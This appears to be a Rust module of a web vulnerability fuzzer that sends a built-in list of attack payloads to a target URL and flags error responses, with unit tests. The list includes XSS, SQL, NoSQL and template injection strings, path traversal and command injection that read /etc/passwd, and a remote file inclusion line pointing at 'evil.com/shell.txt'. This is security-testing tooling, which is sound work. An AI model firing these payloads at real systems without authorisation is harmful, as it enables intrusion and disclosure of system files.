use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use tracing::{debug, info};

use crate::{
    coverage::ResponseCoverage,
    error::Error,
    fuzzer::{Config, Fuzzer, Report, StopToken},
    http::Executor,
};

/// Default web vulnerability payloads: XSS, SQL injection, path traversal,
/// command injection, common paths, file inclusion, NoSQL and template
/// injection.
pub const DEFAULT_PAYLOADS: &[&str] = &[
    // XSS payloads
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    // SQL injection payloads
    "' OR '1'='1",
    "1' ORDER BY 1--",
    "1' UNION SELECT NULL--",
    // Path traversal payloads
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    // Command injection payloads
    "| ls -la",
    "; cat /etc/passwd",
    "& whoami",
    // Common web paths
    "admin",
    "login",
    "wp-admin",
    "phpinfo.php",
    ".git/HEAD",
    // File inclusion
    "index.php?file=../../../../etc/passwd",
    "?page=http://evil.com/shell.txt",
    // NoSQL injection
    "{'$gt': ''}",
    "[$ne]=1",
    // Template injection
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
];

/// Load extra payloads from a wordlist file, one per line. Blank lines are
/// skipped.
pub fn load_wordlist(path: &Path) -> Result<Vec<String>, Error> {
    let content = std::fs::read_to_string(path)?;

    Ok(content
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
        .map(str::to_string)
        .collect())
}

/// Payload session: append each payload of the list to the target URL and
/// observe the response. Non-2xx responses are the interesting ones.
pub struct PayloadFuzzer {
    config: Config,
    payloads: Vec<String>,
    responses: Arc<ResponseCoverage>,
    executor: Arc<dyn Executor>,
    stop: StopToken,
}

impl PayloadFuzzer {
    pub fn new(config: Config, executor: Arc<dyn Executor>, stop: StopToken) -> Result<Self, Error> {
        let mut payloads: Vec<String> = DEFAULT_PAYLOADS.iter().map(|p| p.to_string()).collect();
        if let Some(path) = &config.wordlist {
            payloads.extend(load_wordlist(path)?);
        }

        Ok(Self {
            config,
            payloads,
            responses: Arc::new(ResponseCoverage::new()),
            executor,
            stop,
        })
    }

    /// The payloads this session cycles through.
    pub fn payloads(&self) -> &[String] {
        &self.payloads
    }

    fn build_url(&self, payload: &str) -> String {
        format!("{}/{}", self.config.target_url.trim_end_matches('/'), payload)
    }
}

impl Fuzzer for PayloadFuzzer {
    fn run(&mut self) -> Result<Report, Error> {
        let limit = u64::from(self.config.num_requests);

        let issued = AtomicU64::new(0);
        let requests = AtomicU64::new(0);
        let errors = AtomicU64::new(0);
        let interesting = Mutex::new(Vec::new());

        info!(
            workers = self.config.concurrency,
            payloads = self.payloads.len(),
            "starting payload fuzzing session"
        );

        std::thread::scope(|scope| {
            for _ in 0..self.config.concurrency {
                let executor = Arc::clone(&self.executor);
                let responses = Arc::clone(&self.responses);
                let stop = self.stop.clone();
                let payloads = &self.payloads;
                let this = &*self;
                let issued = &issued;
                let requests = &requests;
                let errors = &errors;
                let interesting = &interesting;

                scope.spawn(move || {
                    loop {
                        if stop.is_stopped() {
                            break;
                        }
                        let slot = issued.fetch_add(1, Ordering::Relaxed);
                        if slot >= limit {
                            break;
                        }

                        let payload = &payloads[slot as usize % payloads.len()];
                        let url = this.build_url(payload);

                        requests.fetch_add(1, Ordering::Relaxed);
                        match executor.execute(&url) {
                            Ok(response) => {
                                responses.track(&response);
                                let status = response.status();
                                if response.is_success() {
                                    debug!(status, url = url.as_str(), "response");
                                } else {
                                    debug!(status, url = url.as_str(), "interesting response");
                                    interesting.lock().unwrap().push(url);
                                }
                            },
                            Err(err) => {
                                errors.fetch_add(1, Ordering::Relaxed);
                                debug!(error = %err, url = url.as_str(), "request failed");
                            },
                        }
                    }
                });
            }
        });

        let report = Report {
            requests: requests.load(Ordering::Relaxed),
            transport_errors: errors.load(Ordering::Relaxed),
            grammar_coverage: None,
            response_coverage: Some(self.responses.stats()),
            interesting: interesting.into_inner().unwrap(),
        };

        info!(
            requests = report.requests,
            interesting = report.interesting.len(),
            "payload fuzzing session finished"
        );

        Ok(report)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::testing::StaticExecutor;

    fn config(requests: u32) -> Config {
        let mut config = Config::new("http://h");
        config.mode = crate::fuzzer::Mode::Payload;
        config.num_requests = requests;
        config.concurrency = 2;
        config
    }

    #[test]
    fn test_builds_urls_from_payloads() {
        let executor = Arc::new(StaticExecutor {
            status: 200,
            body: b"ok",
        });
        let fuzzer = PayloadFuzzer::new(config(4), executor, StopToken::new()).unwrap();

        assert_eq!(fuzzer.build_url("admin"), "http://h/admin");
        assert_eq!(fuzzer.payloads().len(), DEFAULT_PAYLOADS.len());
    }

    #[test]
    fn test_success_responses_are_not_interesting() {
        let executor = Arc::new(StaticExecutor {
            status: 200,
            body: b"ok",
        });
        let mut fuzzer = PayloadFuzzer::new(config(6), executor, StopToken::new()).unwrap();

        let report = fuzzer.run().unwrap();
        assert_eq!(report.requests, 6);
        assert!(report.interesting.is_empty());
    }

    #[test]
    fn test_error_statuses_are_interesting() {
        let executor = Arc::new(StaticExecutor {
            status: 500,
            body: b"boom",
        });
        let mut fuzzer = PayloadFuzzer::new(config(3), executor, StopToken::new()).unwrap();

        let report = fuzzer.run().unwrap();
        assert_eq!(report.interesting.len(), 3);
    }

    #[test]
    fn test_wordlist_extends_payloads() {
        let dir = std::env::temp_dir().join("magpie-wordlist-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("words.txt");
        std::fs::write(&path, "one\n\n  two  \n").unwrap();

        let mut config = config(1);
        config.wordlist = Some(path.clone());
        let executor = Arc::new(StaticExecutor {
            status: 200,
            body: b"ok",
        });
        let fuzzer = PayloadFuzzer::new(config, executor, StopToken::new()).unwrap();

        assert_eq!(fuzzer.payloads().len(), DEFAULT_PAYLOADS.len() + 2);
        assert_eq!(fuzzer.payloads().last().map(String::as_str), Some("two"));

        std::fs::remove_file(path).ok();
    }
}
